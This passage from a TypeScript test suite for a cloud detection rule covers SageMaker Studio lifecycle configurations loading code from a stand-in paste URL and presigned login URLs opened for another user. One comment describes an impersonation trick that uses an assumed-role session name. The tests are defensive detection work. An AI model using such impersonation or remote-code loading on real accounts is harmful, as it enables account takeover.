      ['user_profile', 'CreateUserProfile', ['https://paste.example.net/raw/zz']],
      ['user_profile', 'UpdateUserProfile', ['https://paste.example.net/raw/zz']],
      ['space', 'CreateSpace', ['https://paste.example.net/raw/zz']],
    ]);
    expect(alerts[2]!.details?.attached_to).toBe('user profile bob');
    // Trusted once listed; a built-in configuration turned off (`None`) attaches nothing.
    expect(alertsOf([lc, created, profile, space], { [RULE]: { trusted_code_locations: ['https://paste.example.net/*'] } })).toEqual([]);
    expect(rec('UpdateUserProfile', { domainId: 'd-abc123', userProfileName: 'bob', userSettings: { jupyterLabAppSettings: { builtInLifecycleConfigArn: 'None' } } }).details?.studio_lifecycle_config_arns).toBeUndefined();
  });
  it('only the six domain, user profile and space writes are read: the same settings on another call, or an eventName that is an Object member, attach nothing', () => {
    const settings = { jupyterLabAppSettings: { lifecycleConfigArns: [arn('jl-setup')] } };
    expect(studioLifecycleArnsOf('UpdateSpace', { spaceSettings: settings })).toEqual([arn('jl-setup')]);
    expect(studioLifecycleArnsOf('CreateApp', { spaceSettings: settings, userSettings: settings, defaultUserSettings: settings })).toEqual([]);
    // `STUDIO_SETTINGS.constructor` is Object: read as a list of keys, it threw and the record was not normalized.
    for (const name of ['constructor', 'toString', '__proto__', 'hasOwnProperty']) expect(studioLifecycleArnsOf(name, { userSettings: settings })).toEqual([]);
    const odd = normOne(ctRecord('constructor', { userSettings: settings }, { eventID: 'nb-proto' }));
    expect(odd.details?.studio_lifecycle_config_arns).toBeUndefined();
  });
});

describe('presigned login URLs', () => {
  const studio = (caller: ReturnType<typeof who>, profile: string, ip = '198.51.100.7') =>
    rec('CreatePresignedDomainUrl', { domainId: 'd-abc123', userProfileName: profile, sessionExpirationDurationInSeconds: 43200, expiresInSeconds: 300 }, { ...caller, sourceIPAddress: ip });
  it("a user opening their own Studio every morning is routine; another identity opening their profile alerts, once", () => {
    const days = [0, 1, 2].map(() => studio(who('DataScientist', 'bob@corp.example'), 'bob'));
    expect(alertsOf(days)).toEqual([]);
    const other = studio(who('DataScientist', 'alice@corp.example'), 'bob', '203.0.113.66');
    const again = studio(who('DataScientist', 'alice@corp.example'), 'bob', '203.0.113.66');
    const [a, ...more] = alertsOf([...days, other, again]);
    expect(more).toEqual([]);
    expect(a!.entity).toMatchObject({ type: 'user_profile', id: `arn:aws:sagemaker:us-east-1:${ACCOUNT}:user-profile/d-abc123/bob` });
    expect(a!.details).toMatchObject({ finding: 'opened_for_another_user', identity: 'alice@corp.example', user_profile: 'bob', known_openers: ['bob@corp.example'], ip: '203.0.113.66' });
  });
  it("a launcher portal's role that opens every profile is learned; exempt callers are not judged", () => {
    const portal = who('StudioLauncher', 'launcher');
    expect(alertsOf([studio(portal, 'carol'), studio(portal, 'carol'), studio(who('DataScientist', 'carol'), 'carol')])).toEqual([]);
    const evs = [studio(who('DataScientist', 'dan'), 'dan'), studio(who('Admin', 'eve'), 'dan')];
    expect(alertsOf(evs)).toHaveLength(1);
    expect(alertsOf(evs, { [RULE]: { exempt: ['eve'] } })).toEqual([]);
    expect(alertsOf(evs, { [RULE]: { exempt: [`arn:aws:iam::${ACCOUNT}:role/Admin`] } })).toEqual([]);
    expect(alertsOf(evs, { [RULE]: { exempt: [`arn:aws:iam::${ACCOUNT}:role/Other`] } })).toHaveLength(1);
  });
  it("a session named after the profile's user, taken by someone else (the AssumeRole record says who), is that someone: alerts", () => {
    // mallory (an IAM user) runs `aws sts assume-role --role-session-name bob`: the session name is hers to choose.
    const mallory = { type: 'IAMUser', principalId: 'AIDAMALLORY', arn: `arn:aws:iam::${ACCOUNT}:user/mallory`, accountId: ACCOUNT, userName: 'mallory' };
    const assume = NormalizedEvent.parse(normOne(ctRecord('AssumeRole', { roleArn: `arn:aws:iam::${ACCOUNT}:role/DataScientist`, roleSessionName: 'bob', durationSeconds: 3600 }, {
      eventID: 'nb-assume', eventTime: '2026-11-25T10:59:00Z', eventSource: 'sts.amazonaws.com', userIdentity: mallory,
      responseElements: { assumedRoleUser: { assumedRoleId: 'AROAEXAMPLE:bob', arn: `arn:aws:sts::${ACCOUNT}:assumed-role/DataScientist/bob` } },
    }), { role_arns: [`arn:aws:iam::${ACCOUNT}:role/DataScientist`] }));
    const bobDays = [studio(who('DataScientist', 'bob'), 'bob')];
    const asBob = rec('CreatePresignedDomainUrl', { domainId: 'd-abc123', userProfileName: 'bob' }, { ...who('DataScientist', 'bob'), sourceIPAddress: '203.0.113.66', eventTime: '2026-11-25T11:00:00Z' });
    const [a, ...more] = alertsOf([...bobDays, assume, asBob]);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ finding: 'opened_for_another_user', identity: 'mallory', user_profile: 'bob' });
    // Near miss: without an AssumeRole record naming someone else, the session `bob` is bob (as identityOf reads it).
    expect(alertsOf([...bobDays, asBob])).toEqual([]);
  });
  it("a name that only prefixes the profile's is not its user: bob opening bobby's Studio alerts; alice.smith opening alice-smith does not", () => {
    const [a, ...more] = alertsOf([studio(who('DataScientist', 'bobby'), 'bobby'), studio(who('DataScientist', 'bob'), 'bobby')]);
    expect(more).toEqual([]);
    expect(a!.details).toMatchObject({ identity: 'bob', user_profile: 'bobby' });
    expect(alertsOf([studio(who('DataScientist', 'bob'), 'bob'), studio(who('DataScientist', 'bobby'), 'bob')])).toHaveLength(1);
    // Three letters prefixed every profile of a team's naming scheme.
    expect(alertsOf([studio(who('DataScientist', 'ml-alice'), 'ml-alice'), studio(who('Admin', 'ml'), 'ml-alice')])).toHaveLength(1);
    expect(alertsOf([studio(who('Launcher', 'portal'), 'alice-smith'), studio(who('DataScientist', 'alice.smith@corp.example'), 'alice-smith')])).toEqual([]);
    // The role's name joined to the session (actor.name `Role/session`) is no one's: role `ml` session `alice` is not profile `mlalice`'s user.
    expect(alertsOf([studio(who('DataScientist', 'carol'), 'mlalice'), studio(who('ml', 'alice'), 'mlalice')])).toHaveLength(1);
  });
  it("the login URL's token is hidden in raw", () => {
    const ev = rec('CreatePresignedNotebookInstanceUrl', { notebookInstanceName: 'nb-team', sessionExpirationDurationInSeconds: 1800 }, {
      responseElements: { authorizedUrl: 'https://nb-team.notebook.us-east-1.sagemaker.aws?authToken=eyJhbGciOiJIUzI1NiJ9.c2VjcmV0' },
    });
    expect(JSON.stringify(ev.raw)).not.toContain('eyJhbGciOiJIUzI1NiJ9');
    expect((ev.raw as { responseElements: { authorizedUrl: string } }).responseElements.authorizedUrl).toBe('https://nb-team.notebook.us-east-1.sagemaker.aws?authToken=[redacted]');
  });
});
